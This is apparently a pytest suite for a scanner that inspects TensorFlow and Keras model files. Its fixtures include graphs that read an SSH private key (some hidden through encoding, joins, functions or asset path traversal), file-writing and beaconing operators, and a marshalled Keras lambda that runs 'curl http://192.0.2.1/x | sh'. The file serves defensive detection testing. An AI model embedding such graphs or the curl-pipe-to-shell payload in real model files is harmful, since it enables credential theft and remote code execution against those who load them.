"""TensorFlow graphs: operators that read, write and connect, and where their paths come from."""

import base64
import json
import marshal

import pytest

from scanner.finding import Severity, Verdict
from tests.formats.unwrapping import complaints, contents, names, unwrap
from tests.hostile.scanning import blocked_for, scan
from tests.recipes.archives import PICKLE
from tests.recipes.bundles import FLOAT, index
from tests.recipes.graphs import (
    asset,
    attribute,
    called,
    captured,
    const,
    function,
    graph,
    meta_graph,
    node,
    saved,
)
from tests.recipes.protobufs import message

SECRET = "/home/user/.ssh/id_rsa"
READ = node("r", "ReadFile", "p")
KINDS = {"GraphDef": lambda g: g, "MetaGraphDef": meta_graph, "SavedModel": saved}
# Ways from a constant to an operator that reads the file.
WAYS = {
    "constant": saved(graph(const("p", SECRET), READ)),
    "packed constant": saved(graph(const("p", SECRET, packed=True), READ)),
    "second of several": saved(graph(const("p", "a.txt", SECRET), READ)),
    "through other operators": saved(
        graph(const("c", SECRET), node("i", "Identity", "c:0"), node("p", "Reshape", "i", "^x"), READ)
    ),
    "joined": saved(
        graph(
            const("a", "/home/user"),
            const("b", ".ssh/id_rsa"),
            node("p", "StringJoin", "a", "b", separator=attribute((2, "/"))),
            READ,
        )
    ),
    "encoded": saved(
        graph(const("c", "L2hvbWUvdXNlci8uc3NoL2lkX3JzYQ"), node("p", "DecodeBase64", "c"), READ)
    ),
    "in a function": saved(graph(functions=(function("f", [], const("p", SECRET), READ),))),
    "argument of a function": saved(
        graph(
            const("c", SECRET),
            node("call", "StatefulPartitionedCall", "x", "c", f=called("f")),
            functions=(function("f", ["x", "p"], READ),),
        )
    ),
    "argument of a branch": saved(
        graph(
            const("c", SECRET),
            node("call", "If", "condition", "c", then_branch=called("f"), else_branch=called("g")),
            functions=(function("f", ["p"], READ), function("g", ["p"])),
        )
    ),
    "function as an operator": saved(
        graph(const("c", SECRET), node("call", "f", "c"), functions=(function("f", ["p"], READ),))
    ),
    "captured": saved(
        graph(const("c", SECRET), functions=(function("f", ["x", "p"], READ),)), (7, captured("f", "c"))
    ),
    "two nodes of one name": saved(graph(const("p", SECRET), READ, node("r", "Identity", "p"))),
    "a circle": saved(graph(node("p", "Merge", "p", "c"), const("c", SECRET), READ)),
}
HONEST = {
    "a checkpoint": graph(
        const("d", "model"),
        node("p", "PlaceholderWithDefault", "d"),
        const("t", "_temp/part"),
        node("j", "StringJoin", "p", "t"),
        node("s", "SaveV2", "j", "names", "slices", "v"),
        node("m", "MergeV2Checkpoints", "j", "p", delete_old_dirs=attribute((5, 1))),
        node("r", "RestoreV2", "p", "names", "slices"),
    ),
    "a file that the caller names": graph(node("x", "Placeholder"), node("r", "ReadFile", "x")),
    "a vocabulary beside it": graph(
        const("p", "vocab.txt"), node("i", "InitializeTableFromTextFileV2", "t", "p")
    ),
    "a print": graph(node("p", "PrintV2", "x", output_stream=attribute((2, "stderr")))),
    "numbers": graph(node("m", "MatMul", "a", "b"), const("p", "/etc/passwd")),
}


@pytest.mark.parametrize("kind", KINDS)
def test_every_kind_of_file_is_read(kind):
    data = KINDS[kind](graph(const("p", "/etc/passwd"), READ))
    assert names(data) == ["tensorflow"]
    assert blocked_for(scan(data, "saved_model.pb")) == {"credential-theft"}


@pytest.mark.parametrize("data", WAYS.values(), ids=WAYS)
def test_a_path_is_followed_to_the_operator(data):
    assert blocked_for(scan(data, "saved_model.pb")) == {"credential-theft"}


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("data", HONEST.values(), ids=HONEST)
def test_honest_graphs_are_clean(kind, data):
    assert scan(KINDS[kind](data), "saved_model.pb").verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "writer",
    [
        node("w", "WriteFile", "p", "x"),
        node("w", "PrintV2", "x", output_stream=attribute((2, "file:///tmp/out"))),
        node("w", "DatasetToTFRecord", "x", "p", "c"),
    ],
)
def test_writing_to_a_place_of_its_own_blocks(writer):
    assert blocked_for(scan(saved(graph(const("p", "/tmp/out"), writer)), "saved_model.pb")) == {"tampering"}


def test_writing_at_all_asks_for_review():
    (finding,) = scan(saved(graph(node("w", "WriteFile", "x", "y"))), "saved_model.pb").findings
    assert (finding.rule, finding.severity) == ("graph-side-effect", Severity.WARNING)


@pytest.mark.parametrize(
    "connecting",
    [
        node("d", "DebugIdentityV3", "x", debug_urls=attribute((1, message((2, "grpc://192.0.2.7:6064"))))),
        node("c", "RpcClient", "p", "timeout"),
    ],
)
def test_other_machines(connecting):
    data = saved(graph(const("p", "192.0.2.7:6064"), connecting))
    assert blocked_for(scan(data, "saved_model.pb")) == {"beacon"}


def test_python_asks_for_review():
    data = saved(graph(node("p", "EagerPyFunc", "x", token=attribute((2, "pyfunc_0")))))
    assert [(f.rule, f.severity) for f in scan(data).findings] == [("custom-operator", Severity.WARNING)]


def test_assets_are_files_of_the_folder():
    nodes = graph(const("p", "/data/vocab.txt"), node("i", "InitializeTableFromTextFileV2", "t", "p"))
    assert scan(saved(nodes, (6, asset("p", "vocab.txt")))).verdict is Verdict.CLEAN
    assert scan(saved(nodes)).verdict is Verdict.REVIEW
    assert scan(meta_graph(nodes, (6, asset("p", "vocab.txt")))).verdict is Verdict.REVIEW


def test_an_asset_that_leaves_the_folder():
    data = saved(graph(const("p", "x"), node("r", "ReadFile", "p")), (6, asset("p", "../../.ssh/id_rsa")))
    assert blocked_for(scan(data)) == {"credential-theft"}


def test_assets_of_tensorflow_1():
    nodes = graph(const("p", "/data/vocab.txt"), node("i", "InitializeTableFromTextFileV2", "t", "p"))
    value = message((5, message((1, message((1, "type"), (2, asset("p", "vocab.txt")))))))
    collection = message((1, "saved_model_assets"), (2, value))
    assert scan(saved(nodes, (4, collection))).verdict is Verdict.CLEAN


def test_what_stands_in_front_of_a_break_is_judged():
    report = scan(saved(graph(const("p", SECRET), READ)) + b"\x12\xff\xff\x7f" + PICKLE, "saved_model.pb")
    assert {"graph-side-effect", "unreadable-artifact"} <= {f.rule for f in report.findings}
    found = unwrap("tensorflow", saved(graph(READ)) + b"\xff" * 11 + PICKLE)
    assert complaints(found)[-2:] == ["polyglot", "Malformed"]
    assert contents(found)["(trailing data)"].endswith(PICKLE)


def test_weights_are_not_read():
    weights = message((1, 1), (4, bytes(8 << 20)))
    data = graph(*(node(f"w{n}", "Const", value=attribute((8, weights))) for n in range(4)))
    assert scan(saved(data)).bytes_read < len(data) // 100


def test_metadata_of_keras():
    code = compile("def f(x):\n import os\n return os.system('curl http://192.0.2.1/x | sh')", "f", "exec")
    (body,) = [each for each in code.co_consts if hasattr(each, "co_code")]
    text = base64.encodebytes(marshal.dumps(body)).decode()
    config = {"function": {"class_name": "__tuple__", "items": [text, None, None]}, "function_type": "lambda"}
    layer = json.dumps({"name": "lambda", "class_name": "Lambda", "config": config})
    root = json.dumps({"name": "s", "class_name": "Sequential", "config": {"layers": []}})
    objects = [("root", "_tf_keras_sequential", root), ("root.layer-0", "_tf_keras_layer", layer)]
    honest, hostile = (
        message(*((1, message((2, n), (3, p), (4, i), (5, j))) for n, (p, i, j) in enumerate(chosen)))
        for chosen in (objects[:1], objects)
    )
    assert names(hostile) == ["keras-metadata"]
    assert scan(honest, "keras_metadata.pb").verdict is Verdict.CLEAN
    assert blocked_for(scan(hostile, "keras_metadata.pb")) == {"download-and-run"}
    user = message((1, "_tf_keras_layer"), (3, layer))
    older = saved(graph(READ), (7, message((1, message((4, user))))))
    assert blocked_for(scan(older, "saved_model.pb")) == {"download-and-run"}


def test_beside_a_graph():
    table = index(("w", FLOAT, 0, 4))
    fingerprint = message(*((n, 1 << 60) for n in range(1, 6)), (6, message((1, 4))), (7, "2471"))
    for data in (table, fingerprint):
        assert names(data) == ["tensorflow-checkpoint"]
        assert scan(data, "variables.index").verdict is Verdict.CLEAN
    assert scan(b"foreign" + table, "variables.index").verdict is Verdict.REVIEW


def test_other_messages_are_no_graphs():
    for data in (message((1, "graph")), message((1, message((1, "a"), (2, "lower case")))), bytes(100)):
        assert names(data) in ([], ["text"])
